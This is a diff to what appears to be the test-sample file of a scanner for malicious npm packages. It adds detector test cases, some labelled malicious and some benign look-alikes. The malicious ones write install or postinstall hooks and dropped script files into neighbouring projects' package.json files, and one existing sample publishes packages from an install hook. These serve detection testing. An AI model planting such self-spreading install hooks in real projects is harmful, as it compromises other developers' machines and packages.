@@ -4,6 +4,23 @@ import { at, HOOK_LINE, hooked, imported, installed, quiet, wheel } from '../sam
 export const samples: Samples = {
   malicious: [
     {
+      name: 'projects beside the one in which it runs, through other modules',
+      files: imported(
+        `const fs = require('fs'), path = require('path');\nconst gift = require('./gift.js');\nfunction* all(base) {\n  for (const name of fs.readdirSync(base)) yield path.join(base, name);\n}\nfunction give(dir) {\n  const file = path.join(dir, 'package.json');\n  fs.writeFileSync(path.join(dir, gift.name), gift.text);\n  fs.writeFileSync(file, JSON.stringify(gift.add(JSON.parse(fs.readFileSync(file, 'utf8')))));\n}\nexports.tag = (cwd) => { for (const dir of all(path.dirname(cwd))) give(dir); };\n`,
+        {
+          'gift.js': `module.exports = {\n  name: 'check.js',\n  text: '',\n  add(pkg) { pkg.scripts = { ...pkg.scripts, postinstall: 'node check.js' }; return pkg; },\n};\n`,
+        },
+      ),
+      expected: [at('planted-script', 'high', 'index.js', 9)],
+    },
+    {
+      name: 'packages that are looked for, with a copy of a file',
+      files: installed(
+        `const fs = require('fs'), path = require('path');\nconst found = fs.readdirSync('..').map((name) => path.join('..', name, 'package.json'));\nfor (const file of found) {\n  const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));\n  fs.copyFileSync(path.join(__dirname, 'shim.txt'), path.join(path.dirname(file), 'shim.js'));\n  const next = { ...pkg, scripts: { ...pkg.scripts, install: 'node shim.js' } };\n  fs.writeFileSync(file, JSON.stringify(next, null, 2) + '\\n');\n}\n`,
+      ),
+      expected: [at('planted-script', 'critical', 'setup.js', 7)],
+    },
+    {
       name: 'packages published by a hook',
       files: installed(
         `const { execSync } = require('child_process');\nfor (const dir of ['a', 'b']) execSync('npm publish --access public', { cwd: dir });\n`,
@@ -61,6 +78,24 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a tool that adds a script of any name to the packages of a folder',
+      imported(
+        `const fs = require('fs'), path = require('path');\nexports.add = (base, script) => {\n  for (const name of fs.readdirSync(base)) {\n    const file = path.join(base, name, 'package.json');\n    const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));\n    fs.copyFileSync(file, file + '.bak');\n    pkg.scripts = { ...pkg.scripts, [script.name]: script.line };\n    fs.writeFileSync(file, JSON.stringify(pkg));\n  }\n};\n`,
+      ),
+    ),
+    quiet(
+      'a tool that adds a script which runs when somebody builds',
+      imported(
+        `const fs = require('fs'), path = require('path');\nexports.add = (base, script) => {\n  for (const name of fs.readdirSync(base)) {\n    const file = path.join(base, name, 'package.json');\n    const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));\n    fs.copyFileSync(file, file + '.bak');\n    pkg.scripts = { ...pkg.scripts, build: 'tsc -b' };\n    fs.writeFileSync(file, JSON.stringify(pkg));\n  }\n};\n`,
+      ),
+    ),
+    quiet(
+      'a tool that sets up the project that it is called in',
+      imported(
+        `const fs = require('fs');\nexports.init = () => {\n  const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\n  pkg.scripts = { ...pkg.scripts, postinstall: 'patches apply' };\n  fs.writeFileSync('package.json', JSON.stringify(pkg));\n  fs.writeFileSync('patches/readme.md', fs.readdirSync('patches').join());\n};\n`,
+      ),
+    ),
     quiet(
       'Python: a tool that pins what the project in its folder needs',
       wheel(
